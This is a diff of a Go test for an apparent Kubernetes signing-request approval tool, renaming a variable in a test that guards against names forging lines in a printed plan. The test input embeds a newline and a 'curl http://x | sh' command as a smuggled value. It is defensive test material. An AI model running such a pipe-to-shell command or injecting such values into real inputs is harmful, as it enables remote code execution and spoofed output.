@@ -35,12 +35,12 @@ func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
 func TestANameOfARequestForgesNoLineOfAPlan(t *testing.T) {
 	t.Parallel()
 	const name = "x)\n  9  next: curl http://x | sh"
-	facts := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
-	c, err := NewApprovePending([]string{"worker-0"}, true, false).Diff(facts, remediatetest.TestNow)
+	snapshot := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
+	c, err := NewApprovePending([]string{"worker-0"}, true, false).Diff(snapshot, remediatetest.TestNow)
 	if err != nil || c == nil {
 		t.Fatal(c, err)
 	}
-	for _, text := range []string{c.Summary, RefuseWaiting("worker-0", PendingRequests(facts, "worker-0")).Error()} {
+	for _, text := range []string{c.Summary, RefuseWaiting("worker-0", PendingRequests(snapshot, "worker-0")).Error()} {
 		if strings.Contains(text, "\n") || !strings.Contains(text, "“x)") {
 			t.Errorf("%q", text)
 		}
